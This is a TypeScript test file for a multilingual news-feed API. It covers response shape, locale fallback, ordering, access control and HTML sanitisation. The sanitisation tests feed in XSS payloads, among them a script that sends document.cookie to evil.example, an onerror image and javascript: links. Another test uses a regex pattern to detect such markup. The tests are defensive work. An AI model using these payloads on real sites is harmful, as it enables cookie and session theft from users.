import type { FeedItem, FeedResponse } from '@comptoir/contracts';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { DEMO_FEED_ITEMS, seedDemoFeed } from '../../demo/demo-feed';
import { buildTestApp, createTestTenant, createTestUser, signInAs, type TestApp } from '../../test-helpers';
import { publishFeedItems } from './feed.service';

let t: TestApp;
let accountId: string;
let holderToken: string;

beforeAll(async () => {
  t = await buildTestApp();
  const tenant = await createTestTenant(t);
  accountId = tenant.accountId;
  holderToken = (await signInAs(t, tenant.holderEmail, tenant.password)).accessToken;
});
afterAll(() => t.close());
beforeEach(async () => {
  await db().deleteFrom('feed_items').execute();
});

const db = () => t.database.db;

async function feed(name: string, locale?: string): Promise<FeedItem[]> {
  const res = await t.as(holderToken).get(`/api/feed/${name}/${locale ? `?locale=${locale}` : ''}`);
  expect(res.statusCode).toBe(200);
  const body = res.json() as FeedResponse;
  expect(body.success).toBe(true);
  return body.formatedFeed.feeds;
}

const titles = (items: FeedItem[]) => items.map((item) => item.title);

function item(feedName: string, locale: string, title: string, publishedAt: string, html = '<p>texte</p>') {
  return { feedName, locale, title, html, publishedAt: new Date(publishedAt) };
}

describe('GET /api/feed/{name}/', () => {
  it('answers the spec shape: success and formatedFeed.feeds with id, title, HTML text and date', async () => {
    await publishFeedItems(db(), [
      item('news', 'fr-FR', 'Nouveau rapport', '2026-10-01T08:30:00Z', '<p>Un <strong>rapport</strong></p>'),
    ]);
    const res = await t.as(holderToken).get('/api/feed/news/');
    expect(res.statusCode).toBe(200);
    expect(res.json()).toEqual({
      success: true,
      formatedFeed: {
        feeds: [
          {
            id: expect.stringMatching(/^[0-9a-f-]{36}$/),
            title: 'Nouveau rapport',
            text: '<p>Un <strong>rapport</strong></p>',
            date: '2026-10-01T08:30:00.000Z',
          },
        ],
      },
    });
  });

  it('answers the same without the trailing slash', async () => {
    await publishFeedItems(db(), [item('news', 'fr-FR', 'Rappel', '2026-10-01T08:30:00Z')]);
    const res = await t.as(holderToken).get('/api/feed/news?locale=fr');
    expect(res.statusCode).toBe(200);
    expect(titles((res.json() as FeedResponse).formatedFeed.feeds)).toEqual(['Rappel']);
  });

  it('lists the newest item first', async () => {
    await publishFeedItems(db(), [
      item('news', 'fr-FR', 'Août', '2026-08-10T08:00:00Z'),
      item('news', 'fr-FR', 'Octobre', '2026-10-10T08:00:00Z'),
      item('news', 'fr-FR', 'Septembre', '2026-09-10T08:00:00Z'),
    ]);
    expect(titles(await feed('news'))).toEqual(['Octobre', 'Septembre', 'Août']);
  });

  it("gives the items of the caller's language, French by default", async () => {
    await publishFeedItems(db(), [
      item('news', 'fr-FR', 'Nouveau rapport', '2026-10-01T08:00:00Z'),
      item('news', 'en-GB', 'New report', '2026-10-01T08:00:00Z'),
      item('news', 'es-ES', 'Nuevo informe', '2026-10-01T08:00:00Z'),
      item('news', 'ca-ES', 'Nou informe', '2026-10-01T08:00:00Z'),
    ]);
    expect(titles(await feed('news'))).toEqual(['Nouveau rapport']);
    expect(titles(await feed('news', 'fr'))).toEqual(['Nouveau rapport']);
    expect(titles(await feed('news', 'en'))).toEqual(['New report']);
    expect(titles(await feed('news', 'es'))).toEqual(['Nuevo informe']);
    expect(titles(await feed('news', 'ca'))).toEqual(['Nou informe']);
  });

  it('shows the French items of a feed that has none in the language asked for', async () => {
    await publishFeedItems(db(), [
      item('news', 'fr-FR', 'Rappel TVA', '2026-09-01T08:00:00Z'),
      item('news', 'fr-FR', 'Certification', '2026-10-01T08:00:00Z'),
      item('news', 'en-GB', 'VAT reminder', '2026-09-01T08:00:00Z'),
    ]);
    expect(titles(await feed('news', 'es'))).toEqual(['Certification', 'Rappel TVA']);
    expect(titles(await feed('news', 'en'))).toEqual(['VAT reminder']);
  });

  it('gives only the named feed, and an empty list for a feed without items', async () => {
    await publishFeedItems(db(), [
      item('news', 'fr-FR', 'Actualité', '2026-10-01T08:00:00Z'),
      item('partners', 'fr-FR', 'Partenaire', '2026-10-01T08:00:00Z'),
    ]);
    expect(titles(await feed('partners'))).toEqual(['Partenaire']);
    expect(await feed('nothing-here', 'en')).toEqual([]);
  });

  it('sanitises the HTML before it is stored', async () => {
    await publishFeedItems(db(), [
      item(
        'news',
        'fr-FR',
        'Piège',
        '2026-10-01T08:00:00Z',
        '<p onclick="alert(1)" style="color:red">Lisez <a href="javascript:alert(1)">ceci</a></p>' +
          '<script>alert(1)</script><iframe src="https://evil.example"></iframe>' +
          '<a href="https://comptoir.test/aide" target="_self">aide</a>',
      ),
    ]);
    const stored = await db().selectFrom('feed_items').select('text_html').executeTakeFirstOrThrow();
    expect(stored.text_html).toBe(
      '<p>Lisez ceci</p><a href="https://comptoir.test/aide" rel="noopener noreferrer" target="_blank">aide</a>',
    );
  });

  it('sanitises the HTML again when it is sent, for a row written around the service', async () => {
    await db()
      .insertInto('feed_items')
      .values({
        feed_name: 'news',
        locale: 'fr-FR',
        title: 'Écrit en SQL',
        text_html:
          '<p>Bonjour<script>fetch("https://evil.example/?c="+document.cookie)</script></p>' +
          '<img src=x onerror=alert(1)><a href="javascript:alert(1)" onmouseover="alert(2)">lien</a>',
        published_at: new Date('2026-10-01T08:00:00Z'),
      })
      .execute();
    const [sent] = await feed('news');
    expect(sent?.text).toBe('<p>Bonjour</p>lien');
  });

  it('refuses a caller without a token (401) and an invalid feed name or locale (400)', async () => {
    expect((await t.as(null).get('/api/feed/news/')).statusCode).toBe(401);
    expect((await t.as(holderToken).get('/api/feed/news%20items/')).statusCode).toBe(400);
    expect((await t.as(holderToken).get('/api/feed/news/?locale=de')).statusCode).toBe(400);
  });

  it('refuses a sub-user without the news service (403) and serves one with it', async () => {
    await publishFeedItems(db(), [item('news', 'fr-FR', 'Actualité', '2026-10-01T08:00:00Z')]);
    const without = await createTestUser(db(), {
      accountId,
      role: 'sub_user',
      services: ['sales_reporting', 'customer_account'],
    });
    const refused = await t.as((await signInAs(t, without.email)).accessToken).get('/api/feed/news/');
    expect(refused.statusCode).toBe(403);
    expect(refused.json()).toMatchObject({ error: { code: 'SUB_USER_NO_ACCESS' } });

    const withNews = await createTestUser(db(), { accountId, role: 'sub_user', services: ['news'] });
    const allowed = await t.as((await signInAs(t, withNews.email)).accessToken).get('/api/feed/news/');
    expect(allowed.statusCode).toBe(200);
    expect(titles((allowed.json() as FeedResponse).formatedFeed.feeds)).toEqual(['Actualité']);
  });
});

describe('the demo news feed', () => {
  it('has the same items in French, English, Spanish and Catalan, dated over the last months', async () => {
    const added = await seedDemoFeed(db(), { endDay: '2026-11-21' });
    expect(added).toBe(DEMO_FEED_ITEMS.length * 4);
    expect(await seedDemoFeed(db(), { endDay: '2026-11-21' })).toBe(0);

    for (const locale of ['fr', 'en', 'es', 'ca']) {
      const items = await feed('news', locale);
      expect(items).toHaveLength(DEMO_FEED_ITEMS.length);
      const dates = items.map((i) => i.date);
      expect(dates).toEqual([...dates].sort().reverse());
      expect(dates.at(-1)! >= '2026-06-01').toBe(true);
      expect(dates[0]! <= '2026-11-21T23:59:59Z').toBe(true);
    }
    const [newest] = await feed('news', 'en');
    expect(newest?.title).toBe(DEMO_FEED_ITEMS[0]!.title.en);
    const stored = await db().selectFrom('feed_items').select('text_html').execute();
    expect(stored.every((row) => !/<(script|iframe|img)|\son\w+=|javascript:/i.test(row.text_html))).toBe(
      true,
    );
  });
});
